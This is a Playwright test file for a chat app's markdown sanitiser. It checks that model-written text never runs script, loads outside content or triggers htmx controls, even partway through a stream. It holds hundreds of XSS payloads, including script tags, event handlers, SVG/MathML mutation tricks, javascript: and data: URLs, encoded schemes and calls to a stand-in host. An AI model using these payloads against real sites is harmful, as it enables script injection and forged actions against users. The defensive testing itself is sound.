"""What a model writes never becomes active: no script, no request, no control of the page, at no prefix of a stream."""

from collections.abc import Iterator

import pytest
from playwright.sync_api import Page

from tests.browser.kit.conftest import Trouble

CALL = "window.__xss=1"
ELSEWHERE = "https://evil.example/x"

# Elements that run something or load something, in the ways that filters have missed.
ELEMENTS = [
    f"<script>{CALL}</script>",
    f"<SCRIPT>{CALL}</SCRIPT >",
    f"<script src={ELSEWHERE}></script>",
    f"<scr<script>ipt>{CALL}</scr</script>ipt>",
    f"<script\n>{CALL}</script\n>",
    f"<svg><script>{CALL}</script></svg>",
    f"<svg><script href={ELSEWHERE} /></svg>",
    f"<svg><animate onbegin={CALL} attributeName=x dur=1s>",
    f"<svg><a><animate attributeName=href values=javascript:{CALL} /><text x=20 y=20>press</text></a></svg>",
    f"<svg><use href=\"data:image/svg+xml,<svg id='x'><image href='1' onerror='{CALL}'/></svg>#x\"/>",
    f"<svg><style>@import '{ELSEWHERE}';</style></svg>",
    f"<svg><image href={ELSEWHERE} /></svg>",
    f"<svg><set attributeName=onmouseover to={CALL}>",
    f'<svg><foreignObject><iframe srcdoc="<script>parent.{CALL}</script>"></foreignObject></svg>',
    f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={CALL}&gt;">',
    f"<math><maction actiontype=statusline xlink:href=javascript:{CALL}>x</maction></math>",
    f"<math href=javascript:{CALL}>x</math>",
    f'<form><math><mtext></form><form><mglyph><style></math><img src onerror="{CALL}">',
    f'<noscript><p title="</noscript><img src=x onerror={CALL}>">',
    f"<iframe src=javascript:parent.{CALL}></iframe>",
    f'<iframe srcdoc="<script>parent.{CALL}</script>"></iframe>',
    f"<iframe src={ELSEWHERE}></iframe>",
    f"<object data=javascript:{CALL}></object>",
    f"<object data={ELSEWHERE}></object>",
    f"<embed src=javascript:{CALL}>",
    f"<embed src={ELSEWHERE}>",
    f"<applet code={ELSEWHERE}></applet>",
    f"<base href={ELSEWHERE}/><a href=x>press</a>",
    f"<link rel=stylesheet href={ELSEWHERE}>",
    f"<link rel=prefetch href={ELSEWHERE}>",
    f"<meta http-equiv=refresh content='0;url={ELSEWHERE}'>",
    f"<meta http-equiv=refresh content='0;url=javascript:{CALL}'>",
    f"<style>@import url({ELSEWHERE});</style>",
    "<style>body{display:none}</style>",
    f"<img src={ELSEWHERE}>",
    f"<img srcset='{ELSEWHERE} 1x'>",
    f"<img src=x onerror={CALL}>",
    f"<img src=x:x onerror\n=\n{CALL}>",
    f"<img/src=x/onerror={CALL}>",
    f'<img src="x` `<script>{CALL}</script>"` `>',
    f"<image src={ELSEWHERE} onerror={CALL}>",
    f"<picture><source srcset={ELSEWHERE}><img src=x></picture>",
    f"<video src={ELSEWHERE} autoplay onloadstart={CALL}></video>",
    f"<video poster={ELSEWHERE}></video>",
    f"<video><source onerror={CALL}></video>",
    f"<audio src={ELSEWHERE} autoplay></audio>",
    f"<track src={ELSEWHERE}>",
    f"<input type=image src={ELSEWHERE}>",
    f"<input autofocus onfocus={CALL}>",
    f"<select autofocus onfocus={CALL}></select>",
    f"<textarea autofocus onfocus={CALL}></textarea>",
    f"<keygen autofocus onfocus={CALL}>",
    f"<button autofocus onfocus={CALL}>x</button>",
    f"<form action={ELSEWHERE}><input name=x><button>send</button></form>",
    f"<form action=javascript:{CALL}><button>x</button></form>",
    f"<isindex action=javascript:{CALL} type=image>",
    f"<button formaction=javascript:{CALL}>x</button>",
    f"<body onload={CALL}>",
    f"<body background={ELSEWHERE}>",
    f"<html manifest={ELSEWHERE}>",
    f"<frameset onload={CALL}>",
    f"<table background={ELSEWHERE}><tr><td>x</td></tr></table>",
    f"<td background={ELSEWHERE}>x</td>",
    f"<marquee onstart={CALL}>x</marquee>",
    f"<details open ontoggle={CALL}><summary>x</summary></details>",
    f"<dialog open onclose={CALL}>x</dialog>",
    f"<template><img src=x onerror={CALL}></template>",
    f"<template shadowrootmode=open><script>{CALL}</script></template>",
    f"<slot onslotchange={CALL}></slot>",
    f"<portal src={ELSEWHERE}></portal>",
    f"<bgsound src={ELSEWHERE}>",
    f"<xml id=x src={ELSEWHERE}></xml>",
    f"<x onclick={CALL} tabindex=1 autofocus onfocus={CALL}>x</x>",
    f"<custom-element onclick={CALL}>x</custom-element>",
    "<message-view data-role=assistant data-state=running data-generation=1></message-view>",
    "<prompt-composer></prompt-composer>",
    "<thread-view></thread-view>",
    f"<a href=x onclick={CALL}>x</a>",
    f"<p style=background:url({ELSEWHERE})>x</p>",
    "<p style=position:fixed;inset:0>x</p>",
    f"<p STYLE='background:url({ELSEWHERE})'>x</p>",
    f"<div id=banners><b onmouseover={CALL}>x</b></div>",
    f"<!--><img src=x onerror={CALL}>-->",
    f"<!--[if gte IE 4]><script>{CALL}</script><![endif]-->",
    f"<?xml-stylesheet href={ELSEWHERE}?>",
    f"<![CDATA[<img src=x onerror={CALL}>]]>",
    f"<title><img src=x onerror={CALL}></title>",
    f"<xmp><img src=x onerror={CALL}></xmp>",
    f"<plaintext><img src=x onerror={CALL}>",
    f"<listing><img src=x onerror={CALL}></listing>",
    f"<select><style></select><img src=x onerror={CALL}></style>",
    f'<svg></p><style><g title="</style><img src=x onerror={CALL}>">',
    f'<a id="x"></a><a id="x" name="y" href="javascript:{CALL}">x</a>',
    "<form id=x><input name=attributes></form>",
    "<img name=body><img name=cookie>",
]

# htmx and our own attributes: they would act without any script.
CONTROLS = [
    f"<div {name}>x</div>"
    for name in (
        "hx-get=/keys/ hx-trigger=load",
        "hx-post=/c/1/delete/ hx-trigger=load",
        "data-hx-get=/keys/ data-hx-trigger=load",
        "hx-on:load=window.__xss=1",
        "hx-on::after-process=window.__xss=1",
        "data-hx-on:click=window.__xss=1",
        "hx-vals=js:{x:window.__xss=1}",
        "hx-ws:connect=/ws/",
        "hx-boost=true",
        "hx-config='{}'",
        "hx-action=/keys/ hx-trigger=load",
        "data-act=regenerate",
        "data-dialog=delete-dialog",
        "data-prompt=/sandbox",
        "data-open-picker",
        "data-sheet=sidebar",
        "id=composer",
        "name=htmx",
        "class=tc-note",
        "popover id=x",
        "contenteditable autofocus",
        "is=prompt-composer",
        "slot=x part=x",
        "role=alert aria-live=assertive",
        "tabindex=0 accesskey=s",
        "draggable=true",
        "itemscope itemid=https://evil.example",
    )
] + [
    '<hx-partial hx-target="#composer">x</hx-partial>',
    "<template hx type=partial>x</template>",
    "<span class='tc-host'>(bank.example)</span>",
    "<code class='language-x tc-note'>x</code>",
    "<code class=\"language-x' onclick='window.__xss=1\">x</code>",
]

SCHEMES = [
    "javascript:window.__xss=1",
    "JaVaScRiPt:window.__xss=1",
    "java\tscript:window.__xss=1",
    "java\nscript:window.__xss=1",
    "&#106;avascript:window.__xss=1",
    "&#x6A;avascript:window.__xss=1",
    "javascript&colon;window.__xss=1",
    "javascript&#58;window.__xss=1",
    "\x01javascript:window.__xss=1",
    " javascript:window.__xss=1",
    "javascript://example.org/%0awindow.__xss=1",
    "data:text/html,<script>window.__xss=1</script>",
    "data:text/html;base64,PHNjcmlwdD53aW5kb3cuX194c3M9MTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg onload=window.__xss=1>",
    "vbscript:window.__xss=1",
    "blob:https://evil.example/x",
    "filesystem:https://evil.example/x",
    "view-source:https://evil.example",
    "//evil.example",
    "\\\\evil.example",
    "/\\evil.example",
    "https:evil",
    "feed:javascript:window.__xss=1",
    "jar:javascript:window.__xss=1!/",
]
LINKS = [
    text
    for scheme in SCHEMES
    for text in (
        f"[press]({scheme})",
        f"[press](<{scheme}>)",
        f"![press]({scheme})",
        f"[press][r]\n\n[r]: <{scheme}>",
        f'<a href="{scheme}">press</a>',
    )
]

MARKDOWN = [
    f'[a](https://example.org "><img src=x onerror={CALL}>")',
    f'![a](https://evil.example/x.png "x" onerror={CALL})',
    f"[<img src=x onerror={CALL}>](https://example.org)",
    f"![<img src=x onerror={CALL}>](https://evil.example/x.png)",
    f"`<img src=x onerror={CALL}>`",
    f"```html\n<img src=x onerror={CALL}>\n```",
    f"```<img src=x onerror={CALL}>\nx\n```",
    f'```x" onclick="{CALL}\nx\n```',
    f"$<img src=x onerror={CALL}>$",
    f"$$</span><img src=x onerror={CALL}>$$",
    f"$\\text{{<img src=x onerror={CALL}>}}$",
    f"\\(\\href{{javascript:{CALL}}}{{x}}\\)",
    "$\\includegraphics{https://evil.example/x.png}$",
    f"| <img src=x onerror={CALL}> |\n|---|\n| <svg onload={CALL}> |",
    f"# <img src=x onerror={CALL}>",
    f"> <img src=x onerror={CALL}>",
    f"- <img src=x onerror={CALL}>",
    f"**<img src=x onerror={CALL}>**",
    f"**注意<img src=x onerror={CALL}>**",
    f"<https://example.org/><img src=x onerror={CALL}>",
    f"<javascript:{CALL}>",
    f"www.example.org/<img src=x onerror={CALL}>",
    f"[a]: https://example.org '<img src=x onerror={CALL}>'\n\n[a]",
    f"[a\n](javascript:{CALL})",
    f'[a](javascript:{CALL} "b")',
    f"[![a](https://evil.example/x.png)](javascript:{CALL})",
    f"a\n\n<div>\n\n<img src=x onerror={CALL}>\n\n</div>",
    f"<p\n\nonclick={CALL}>x",
    f"<b <script>{CALL}</script>0",
    f"&lt;img src=x onerror={CALL}&gt;",
    f"\\<img src=x onerror={CALL}\\>",
    f"&#60;script&#62;{CALL}&#60;/script&#62;",
    f"\x00<img src=x onerror={CALL}>",
    f"<im\x00g src=x onerror={CALL}>",
    f"＜script＞{CALL}＜/script＞",
    f"<table><tr><td>{'<b>' * 50}<img src=x onerror={CALL}>",
]
CORPUS = ELEMENTS + CONTROLS + LINKS + MARKDOWN

# Everything that is wrong with what was drawn, as a list of words.
INSPECT = r"""() => {
  const TAGS = new Set(`P BR HR H1 H2 H3 H4 H5 H6 UL OL LI BLOCKQUOTE PRE CODE TABLE THEAD TBODY TR TH TD A STRONG B EM
    I DEL S INS U SUB SUP KBD MARK SAMP VAR SMALL Q SPAN DL DT DD DETAILS SUMMARY DIV FIGURE BUTTON`.split(/\s+/));
  const OWN = `figure.tc-code, .tc-code-head, .tc-code-more, .tc-table-scroll, .tc-block, .tc-caret, .tc-host, .tc-math,
    .tc-plain, .tc-i, .tc-image`;
  const FORBIDDEN = /^(on|hx-|data-hx|style$|id$|name$|src|popover|role$|accesskey|slot|part|is$|content|form)/;
  const CONTROLS = /^data-(act|dialog|prompt|open-picker|sheet|toggle|reset)/;
  const wrong = [];
  for (const node of document.querySelectorAll("#root *")) {
    if (node.closest(".katex, .tc-i")) continue;
    if (!TAGS.has(node.tagName)) wrong.push(`<${node.tagName}>`);
    if (["BUTTON", "FIGURE"].includes(node.tagName) && !node.closest(".tc-code")) wrong.push(`<${node.tagName}>`);
    for (const { name, value } of node.attributes) {
      if (FORBIDDEN.test(name) || CONTROLS.test(name)) wrong.push(`${node.tagName} ${name}`);
      if (name === "href" && !/^(https?:\/\/|mailto:)/i.test(value)) wrong.push(`href ${value}`);
      if (name === "class" && /tc-/.test(value) && !node.matches(OWN)) wrong.push(`class ${value}`);
    }
  }
  for (const host of document.querySelectorAll("#root .tc-host")) {
    if (host.previousElementSibling?.tagName !== "A") wrong.push("host without a link");
  }
  if ("__xss" in window) wrong.push("ran");
  return wrong;
}"""

DRAW_ALL = f"""async (texts) => {{
  const {{ MarkdownView }} = await import("/static/js/markdown.js");
  const root = document.getElementById("root");
  const inspect = {INSPECT};
  const wrong = [];
  for (const text of texts) {{
    root.replaceChildren();
    new MarkdownView(root).update(text);
    htmx.process(root);
    wrong.push(...inspect().map((word) => [text, word]));
  }}
  return wrong;
}}"""

DRAW_PREFIXES = f"""async (texts) => {{
  const {{ MarkdownView }} = await import("/static/js/markdown.js");
  const root = document.getElementById("root");
  const inspect = {INSPECT};
  const wrong = [];
  for (const text of texts) {{
    root.replaceChildren();
    const view = new MarkdownView(root);
    for (let end = 1; end <= text.length; end += 1) {{
      view.update(text.slice(0, end), {{ live: true }});
      wrong.push(...inspect().map((word) => [text.slice(0, end), word]));
    }}
    view.update(text);
    wrong.push(...inspect().map((word) => [text, word]));
    await new Promise((resolve) => setTimeout(resolve));
  }}
  return wrong;
}}"""


# What the sanitiser's own document reports while it parses: attributes and elements that are dropped in the next step.
DROPPED = (
    "Applying inline style",
    "Executing inline event handler",
    "Setting the document's base URI",
    " purify.min.js",
)


@pytest.fixture
def hostile(canvas: Page, trouble: Trouble) -> Iterator[Page]:
    """The kit page. Hostile markup is parsed in a document that never runs: only there may the policy report."""
    yield canvas
    trouble.check(canvas, expected=lambda text: any(sign in text for sign in DROPPED))


def test_the_corpus_is_large_enough() -> None:
    assert len(set(CORPUS)) >= 250


@pytest.mark.parametrize("kind", ["elements", "controls", "links", "markdown"])
def test_nothing_of_it_becomes_active(hostile: Page, kind: str) -> None:
    corpus = {"elements": ELEMENTS, "controls": CONTROLS, "links": LINKS, "markdown": MARKDOWN}[kind]
    assert hostile.evaluate(DRAW_ALL, corpus) == []
    assert hostile.evaluate(INSPECT) == []


@pytest.mark.parametrize("part", range(4))
def test_nothing_becomes_active_at_any_prefix(hostile: Page, part: int) -> None:
    chosen = (ELEMENTS[::3] + CONTROLS[::4] + LINKS[::9] + MARKDOWN[::2])[part::4]
    assert hostile.evaluate(DRAW_PREFIXES, chosen) == []


def test_nothing_becomes_active_beside_other_text(hostile: Page) -> None:
    """All of it in a few answers, where the pieces could complete each other."""
    for size, glue in ((40, "\n\n"), (12, "")):
        texts = [glue.join(CORPUS[at : at + size]) for at in range(0, len(CORPUS), size)]
        assert hostile.evaluate(DRAW_ALL, texts) == []


def test_what_was_cleaned_is_clean(hostile: Page) -> None:
    """Cleaning again changes nothing: the sanitiser is the last step and is not undone afterwards."""
    changed = hostile.evaluate(
        """async (texts) => {
          const { clean } = await import("/static/js/markdown/clean.js");
          const html = (fragment) => {
            const box = document.createElement("div");
            box.append(fragment);
            return box.innerHTML;
          };
          return texts.filter((text) => html(clean(html(clean(text)))) !== html(clean(text)));
        }""",
        ELEMENTS + CONTROLS,
    )
    assert changed == []


def test_controls_of_the_house_cannot_be_imitated(hostile: Page) -> None:
    """Whatever a model draws has none of the attributes that our scripts listen to."""
    text = "<button data-act=regenerate class=btn>press</button> <span data-prompt=x data-open-picker>y</span>"
    hostile.evaluate(DRAW_ALL, [text])
    assert hostile.locator("#root button, #root [data-act], #root [data-prompt], #root [data-open-picker]").count() == 0
